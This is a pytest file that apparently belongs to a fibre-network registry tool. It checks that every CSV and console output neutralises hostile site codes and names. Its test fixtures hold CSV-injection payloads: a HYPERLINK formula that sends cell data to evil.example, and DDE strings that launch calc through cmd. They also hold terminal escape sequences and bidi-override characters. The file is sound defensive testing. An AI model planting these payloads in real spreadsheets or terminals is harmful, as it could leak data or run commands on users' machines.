"""Outputs safe to open: hostile codes and names, loaded through the registry, in every output.

Contractors' codes and names reach every CSV and the console. Here they are formulas
(OWASP's CSV-injection payloads) and terminal escape sequences; each CSV recor writes
(route, diverse, what-if, redundancy, coverage, import report) must show them as text, and
no console line may carry a control character.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pyogrio
import pytest
import shapely

from recor import registry
from recor.cli import main
from recor.outputs import FORMULA_TRIGGERS, safe_cell, safe_console, safe_table
from recor.registry import BatchInfo, Delivery

DC = '=HYPERLINK("http://evil.example/?"&A1,"ouvrir")'
POP = "+cmd|' /C calc'!A0"
CHAMBER = "-2+3+cmd|' /C calc'!A0"
SCHOOL = "@SUM(1+1)*cmd|' /C calc'!A0"
TITLE = "\x1b]0;pwned\x07Orléans\x1b[2J"
CSI = "Tours\x9b31m rouge"
BIDI = "Blois \u202eevil\u202c"

#: A ring DC – POP – CHAMBER – DC and a spur CHAMBER – SCHOOL, codes and names hostile.
_SITES = [
    (DC, TITLE, "datacentre", (600_000.0, 6_700_000.0)),
    (POP, CSI, "pop", (610_000.0, 6_700_000.0)),
    (CHAMBER, BIDI, "chamber", (605_000.0, 6_708_000.0)),
    (SCHOOL, "=1+1", "public_site", (605_000.0, 6_716_000.0)),
]
_SEGMENTS = [
    ("=SEG(1)", DC, POP),
    ("-SEG-2", POP, CHAMBER),
    ("@SEG3", CHAMBER, DC),
    ("\t=SEG4", CHAMBER, SCHOOL),
]


def _hostile_delivery() -> Delivery:
    xy = {code: point for code, _, _, point in _SITES}
    sites = gpd.GeoDataFrame(
        {
            "code": [s[0] for s in _SITES],
            "name": [s[1] for s in _SITES],
            "kind": [s[2] for s in _SITES],
            "operator": ["=op()"] * 4,
            "status": ["in_service"] * 4,
            "source": ["-source"] * 4,
            "extra": [{}] * 4,
        },
        geometry=shapely.points([s[3] for s in _SITES]),
        crs=2154,
    )
    segments = gpd.GeoDataFrame(
        {
            "code": [s[0] for s in _SEGMENTS],
            "site_a": [s[1] for s in _SEGMENTS],
            "site_b": [s[2] for s in _SEGMENTS],
            "fibre_count": [48] * 4,
            "fibres_used": [0] * 4,
            "cable_type": ["+G652"] * 4,
            "installation": ["duct"] * 4,
            "status": ["in_service"] * 4,
            "owner": ["@owner"] * 4,
            "operator": [TITLE] * 4,
            "commissioned_on": [None] * 4,
            "source": ["-source"] * 4,
            "extra": [{}] * 4,
        },
        geometry=[shapely.LineString([xy[a], xy[b]]) for _, a, b in _SEGMENTS],
        crs=2154,
    )
    return Delivery(sites=sites, segments=segments)


def _assert_safe_csv(path: Path, sep: str = ",") -> list[list[str]]:
    """Every cell of the file is text a spreadsheet will not evaluate."""
    text = path.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=sep))
    for row in rows:
        for cell in row:
            assert safe_cell(cell) == cell, f"{path.name}: formula-like cell {cell!r}"
    return rows


def _assert_safe_console(text: str) -> None:
    unsafe = [c for c in text if safe_console(c) != c]
    assert not unsafe, f"raw control characters on the console: {unsafe!r}"


def test_formula_like_cells_get_a_leading_quote():
    for trigger in FORMULA_TRIGGERS:
        assert safe_cell(f"{trigger}cmd") == f"'{trigger}cmd"
    assert safe_cell(DC) == "'" + DC
    assert safe_cell(" =1+1") == " =1+1"  # a leading space is text already
    assert safe_cell("Orléans") == "Orléans"
    assert safe_cell(None) is None and safe_cell(-3) == -3


def test_negative_and_signed_numbers_stay_numbers():
    for number in ("-12.5", "+3", "-1e-3", "-.5", "12"):
        assert safe_cell(number) == number
    frame = pd.DataFrame({"delta": [-1.5, 2.0], "text": ["-4", "-4-cmd"], "n": [-1, 3]})
    safe = safe_table(frame)
    assert safe["delta"].tolist() == [-1.5, 2.0] and safe["n"].tolist() == [-1, 3]
    assert safe["text"].tolist() == ["-4", "'-4-cmd"]
    assert frame["text"].tolist() == ["-4", "-4-cmd"]  # the input is not mutated


def test_console_escapes_control_and_bidi_characters_and_keeps_json_valid():
    assert safe_console(TITLE) == "\\u001b]0;pwned\\u0007Orléans\\u001b[2J"
    assert safe_console(CSI) == "Tours\\u009b31m rouge"
    assert safe_console(BIDI) == "Blois \\u202eevil\\u202c"
    assert safe_console("a\tb\nc\rd") == "a\tb\nc\\u000dd"
    encoded = safe_console(json.dumps({"name": CSI + BIDI}, ensure_ascii=False))
    assert json.loads(encoded) == {"name": CSI + BIDI}


@pytest.fixture
def hostile_url(registry_url: str) -> str:
    """A registry holding the hostile network and a hostile commune layer."""
    with registry.connect(registry_url, autocommit=True) as conn:
        registry.load_delivery(conn, _hostile_delivery(), BatchInfo(user=TITLE))
        communes = gpd.GeoDataFrame(
            {"code": ["@45234"], "name": [DC]},
            geometry=[shapely.box(590_000, 6_690_000, 620_000, 6_720_000)],
            crs=2154,
        )
        registry.write_reference(
            conn, communes, kind="communes", source_file="=c.geojson", sha256="0" * 64,
            source_crs="EPSG:2154",
        )  # fmt: skip
    return registry_url


@pytest.mark.db
def test_every_csv_recor_writes_shows_hostile_values_as_text(hostile_url, tmp_path, capsys):
    db = ["--database-url", hostile_url]
    outputs = {
        "route": ["route", DC, SCHOOL, "--k", "2"],
        "diverse": ["diverse", DC, SCHOOL, "--level", "edge"],
        "whatif": ["whatif", "--segment=@SEG3", "--segment=\t=SEG4"],
        "redundancy": ["redundancy"],
    }
    for name, argv in outputs.items():
        path = tmp_path / f"{name}.csv"
        assert main([*db, *argv, "--out", str(path)]) == 0, capsys.readouterr()
        rows = _assert_safe_csv(path)
        assert len(rows) > 1, name
    route = (tmp_path / "route.csv").read_text(encoding="utf-8")
    assert "'" + DC.replace('"', '""') in route
    assert main([*db, "coverage", "--out", str(tmp_path / "coverage")]) == 0
    units = _assert_safe_csv(tmp_path / "coverage" / "coverage_units.csv")
    assert units[2][:2] == ["'@45234", "'" + DC]
    _assert_safe_csv(tmp_path / "coverage" / "coverage_summary.csv")
    captured = capsys.readouterr()
    _assert_safe_console(captured.out + captured.err)


@pytest.mark.db
def test_console_lines_carry_no_control_characters(hostile_url, capsys):
    db = ["--database-url", hostile_url]
    commands = [
        ["history", DC, "--entity", "sites"],
        ["history", "=SEG(1)"],
        ["route", DC, SCHOOL],
        ["import", "list", "--json"],
        ["import", "list"],
        ["whatif", "--segment=-SEG-2"],
        ["summary"],
    ]
    for argv in commands:
        main([*db, *argv])
        captured = capsys.readouterr()
        _assert_safe_console(captured.out + captured.err)
        if argv[0] == "history" and argv[1] == DC:
            assert "\\u001b]0;pwned\\u0007Orléans\\u001b[2J" in captured.out
        if "--json" in argv:
            assert json.loads(captured.out)[0]["app_user"] == TITLE
    assert main([*db, "route", TITLE + "?", SCHOOL]) == 2
    _assert_safe_console(capsys.readouterr().err)


@pytest.mark.db
def test_the_import_report_csv_shows_hostile_values_as_text(registry_url, tmp_path, capsys):
    folder = tmp_path / "livraison"
    folder.mkdir()
    sites = gpd.GeoDataFrame(
        {"code": [DC, POP], "name": [TITLE, "=1+1"], "kind": ["pop", "pop"],
         "status": ["in_service", "in_service"], "source": ["-x", "@y"]},
        geometry=shapely.points([(619_000, 6_755_000), (620_000, 6_755_000)]), crs=2154,
    )  # fmt: skip
    segments = gpd.GeoDataFrame(
        {"code": ["=SEG(1)"], "site_a": [DC], "site_b": [POP], "fibres": [-5],
         "install": ["@duct"], "status": ["in_service"]},
        geometry=[shapely.LineString([(619_000, 6_755_000), (620_000, 6_755_000)])], crs=2154,
    )  # fmt: skip
    pyogrio.write_dataframe(sites, folder / "sites.shp")
    pyogrio.write_dataframe(segments, folder / "segments.shp")
    report = tmp_path / "rapport.html"
    # --quiet: the progress bar writes carriage returns past the guard (its text is ours)
    assert main(["--database-url", registry_url, "import", str(folder), "--report",
                 str(report), "--quiet"]) == 1  # fmt: skip
    rows = _assert_safe_csv(report.with_suffix(".csv"), sep=";")
    cells = {cell for row in rows for cell in row}
    assert "'=SEG(1)" in cells and "-5" in cells
    html = report.read_text(encoding="utf-8")
    assert "=SEG(1)" in html and "<script" not in html.lower()
    captured = capsys.readouterr()
    _assert_safe_console(captured.out + captured.err)


def test_a_report_named_csv_is_refused_before_anything_is_written(tmp_path, capsys):
    report = tmp_path / "rapport.csv"
    assert main(["import", str(tmp_path), "--report", str(report)]) == 2
    assert "attendu un fichier .html" in capsys.readouterr().err
    assert not report.exists()
